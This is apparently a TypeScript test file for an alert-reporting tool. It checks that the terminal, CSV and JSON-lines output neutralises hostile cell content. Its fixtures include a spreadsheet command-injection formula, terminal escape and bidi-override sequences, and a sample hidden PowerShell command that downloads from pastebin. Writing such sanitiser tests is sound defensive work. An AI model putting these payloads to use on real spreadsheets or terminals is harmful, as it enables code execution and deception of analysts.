import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { renderAlertsTable } from '../../src/report/alerts-table.js';
import { csvHeader, csvRow } from '../../src/report/csv.js';
import { jsonLine } from '../../src/report/jsonl.js';
import { forCsv, forTerminal } from '../../src/report/sanitize.js';
import { renderBlocks, renderTable } from '../../src/report/terminal-table.js';
import { parseDateTime } from '../../src/table/datetime.js';
import type { Scalar } from '../../src/table/types.js';

/** A command line an attacker wrote to repaint a terminal and to run in a spreadsheet. */
const HOSTILE =
  '=cmd|" /c calc"!A1 \u001b[2J\u001b]0;pwned\u0007 \u009b31m \u202egnp.exe \r\nline2\ttab';

/** Every character a terminal would obey rather than show. */
const OBEYED = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const alert = (over: Record<string, Scalar>): Record<string, Scalar> => ({
  Severity: 'high',
  RuleId: 'webc2-t1102',
  Timestamp: parseDateTime('2026-11-20T11:42:09.1234567Z')!,
  DeviceName: 'fin-laptop-07.contoso.local',
  AccountName: 'ann',
  FileName: 'powershell.exe',
  InitiatingProcessFileName: 'WINWORD.EXE',
  RemoteUrl: 'pastebin.com',
  Service: 'Pastebin',
  Confidence: 'high',
  ProcessCommandLine: 'powershell.exe -nop -w hidden -c "iwr https://pastebin.com/raw/x"',
  ...over,
});

describe('text for a terminal', () => {
  it('shows control, escape and bidi characters as escapes instead of obeying them', () => {
    const shown = forTerminal(HOSTILE);
    assert.doesNotMatch(shown, OBEYED);
    assert.equal(
      shown,
      '=cmd|" /c calc"!A1 \\x1b[2J\\x1b]0;pwned\\x07 \\x9b31m \\u202egnp.exe \\x0d\\x0aline2\ttab',
    );
  });

  it('keeps hostile cells inert in tables and blocks, tabs included', () => {
    const rows = [alert({ ProcessCommandLine: HOSTILE, DeviceName: 'h\u001b[31m' })];
    for (const out of [
      renderTable(rows, Object.keys(rows[0]!), { width: 400, color: false }),
      renderBlocks(rows, Object.keys(rows[0]!), { width: 400, color: false }),
      renderAlertsTable(rows, { width: 400, color: false }),
      renderAlertsTable(rows, { width: 60, color: false }),
    ]) {
      assert.doesNotMatch(out.replace(/\n/g, ''), OBEYED);
      assert.doesNotMatch(out, /\t/);
      assert.match(out, /\\x1b\[2J/);
    }
  });

  it('colours only what it writes itself, and only when asked', () => {
    const rows = [alert({})];
    assert.doesNotMatch(renderAlertsTable(rows, { width: 200, color: false }), /\u001b/);
    assert.match(renderAlertsTable(rows, { width: 200, color: true }), /\u001b\[31mhigh/);
  });
});

describe('the alerts table', () => {
  const rows = [
    alert({}),
    alert({ DeviceName: 'eng-ws-112.contoso.local', Severity: 'medium', FileName: 'git.exe' }),
  ];
  const headings = (out: string): string[] =>
    out
      .split('\n')[0]!
      .trim()
      .split(/\s{2,}/);

  it('shows every column when there is room, the command line last', () => {
    const out = renderAlertsTable(rows, { width: 220, color: false });
    assert.deepEqual(headings(out), [
      'Severity',
      'Rule',
      'Time',
      'Device',
      'Account',
      'Process',
      'Parent',
      'Destination',
      'Service',
      'Confidence',
      'Command line',
    ]);
    assert.match(out, /2026-11-20 11:42:09 {2}fin-laptop-07\.contoso\.local/);
    for (const line of out.trimEnd().split('\n')) assert.ok(line.length <= 220, line);
  });

  it('gives up the least telling columns first, and shortens host names before dropping them', () => {
    const out = renderAlertsTable(rows, { width: 110, color: false });
    assert.deepEqual(headings(out), [
      'Severity',
      'Rule',
      'Device',
      'Process',
      'Destination',
      'Command line',
    ]);
    assert.match(out, /webc2-t1102 {2}fin-laptop-07 {2}powershell\.exe/);
    assert.match(out, /eng-ws-112 {2}/);
    for (const line of out.trimEnd().split('\n')) assert.ok(line.length <= 110, line);
  });

  it('keeps IP addresses whole when it shortens host names', () => {
    const out = renderAlertsTable([alert({ DeviceName: '10.20.30.40' })], {
      width: 105,
      color: false,
    });
    assert.match(out, /10\.20\.30\.40/);
  });

  it('becomes one block per alert on a narrow terminal', () => {
    const out = renderAlertsTable(rows, { width: 70, color: false });
    assert.match(out, /^── 1 · webc2-t1102 · high ─+\n/);
    assert.match(out, /\nDevice +fin-laptop-07\.contoso\.local\n/);
  });

  it('prints nothing for no alerts', () => {
    assert.equal(renderAlertsTable([], { width: 120, color: false }), '');
  });
});

describe('CSV', () => {
  it('neutralises cells a spreadsheet would run, and only those', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])
      assert.equal(forCsv(s), `'${s}`, JSON.stringify(s));
    for (const s of ['a=1', 'cmd.exe', '', ' =1']) assert.equal(forCsv(s), s, JSON.stringify(s));
  });

  it('writes RFC 4180 rows that read back to the same text, formulas made text', () => {
    const columns = ['Count', 'Text', 'When', 'Data'];
    const row: Record<string, Scalar> = {
      Count: -5,
      Text: HOSTILE,
      When: parseDateTime('2026-11-20T11:42:09.1234567Z')!,
      Data: { a: [1, '"q"'] },
    };
    const text = `${csvHeader(columns)}\r\n${csvRow(row, columns)}\r\n`;
    const [header, back] = parse(text, { relaxQuotes: false }) as string[][];
    assert.deepEqual(header, columns);
    assert.deepEqual(back, [
      '-5',
      `'${HOSTILE}`,
      '2026-11-20T11:42:09.1234567Z',
      '{"a":[1,"\\"q\\""]}',
    ]);
  });

  it('neutralises a header that looks like a formula too', () => {
    assert.equal(csvHeader(['=x', 'y']), "'=x,y");
  });
});

describe('JSON lines', () => {
  it('writes one object per row, keys in column order, datetimes at full precision', () => {
    const line = jsonLine(
      { B: 1, A: HOSTILE, T: parseDateTime('2026-11-20T11:42:09.1234567Z')!, N: null },
      [
        { name: 'B', type: 'long' },
        { name: 'A', type: 'string' },
        { name: 'T', type: 'datetime' },
        { name: 'N', type: 'string' },
      ],
    );
    assert.doesNotMatch(line, /\n/);
    assert.deepEqual(Object.keys(JSON.parse(line) as object), ['B', 'A', 'T', 'N']);
    assert.deepEqual(JSON.parse(line), {
      B: 1,
      A: HOSTILE,
      T: '2026-11-20T11:42:09.1234567Z',
      N: null,
    });
  });
});
